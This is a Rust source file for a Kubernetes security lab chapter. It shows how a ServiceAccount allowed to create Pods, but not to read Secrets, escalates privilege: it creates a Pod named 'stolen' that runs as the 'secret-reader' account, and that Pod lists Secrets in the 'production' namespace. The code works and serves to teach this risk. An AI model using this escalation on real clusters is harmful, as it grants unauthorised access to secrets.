//! Chapter 8: why "may create Pods" is on every list of risky permissions.
//! As ci-bot (may create Pods, may not read Secrets) the lab lists Secrets,
//! then creates a Pod that runs as secret-reader, which lists them for it.
//! In that Pod (`SA_LAB_PHASE=stolen`) the same lab only lists Secrets.

use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, PostParams};
use lab_kit::probe::{Outcome, Probe, classify};
use lab_kit::report::{ProbeRow, Report};
use serde_json::json;

const NS: &str = "production";

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let mut report = Report::new("08", "lab-08-audit");

    // ANCHOR: client
    let client = match kube::Config::incluster() {
        Ok(config) => kube::Client::try_from(config)?,
        Err(e) => {
            let msg = format!("no in-cluster config: {e}");
            let row = ProbeRow::simple("client", Outcome::Error, None, &msg);
            report.rows.push(row);
            report.finish();
            return Ok(());
        }
    };
    // ANCHOR_END: client
    report.identity = lab_kit::identity::whoami(&client).await.ok();

    let secrets = Probe::new("list-secrets", "list", "secrets").ns(NS);
    report.rows.push(secrets.run_and_ask(&client).await);
    if report.phase.as_deref() != Some("stolen") {
        report.rows.push(steal(&client).await);
    }
    report.finish();
    Ok(())
}

// ANCHOR: steal
/// Create a Pod that runs this same lab as secret-reader. Admission only
/// checks that the ServiceAccount exists: whoever may create Pods in a
/// namespace may run code as any ServiceAccount of that namespace.
async fn steal(client: &kube::Client) -> ProbeRow {
    let pods: Api<Pod> = Api::namespaced(client.clone(), NS);
    // The image this Pod runs (ci-bot may read its own Pod).
    let me = lab_kit::pod_name().unwrap_or_default();
    let image = match pods.get(&me).await {
        Ok(p) => p.spec.and_then(|s| s.containers.first()?.image.clone()),
        Err(_) => None,
    }
    .unwrap_or_else(|| lab_kit::LAB_IMAGE.to_string());
    let stolen: Pod = serde_json::from_value(json!({
        "metadata": { "name": "stolen", "labels": {
            "app.kubernetes.io/part-of": "sa-lab", "sa-lab.dev/chapter": "08" } },
        "spec": {
            "serviceAccountName": "secret-reader",
            "restartPolicy": "Never",
            "containers": [{
                "name": "lab", "image": image, "imagePullPolicy": "IfNotPresent",
                "command": ["lab-08-audit"],
                "env": [{ "name": "SA_LAB_PHASE", "value": "stolen" }]
            }]
        }
    }))
    .expect("a valid Pod");
    let res = pods.create(&PostParams::default(), &stolen).await;
    // ANCHOR_END: steal
    let (outcome, status, message) = classify(&res);
    let message = match res {
        Ok(_) => "Pod stolen created, running as secret-reader".to_string(),
        Err(_) => message,
    };
    let probe = Probe::new("create-pod", "create", "pods").ns(NS);
    let mut row = probe.row(outcome, status, &message);
    row.authorizer = Some(probe.ask_authorizer(client).await.0);
    row
}
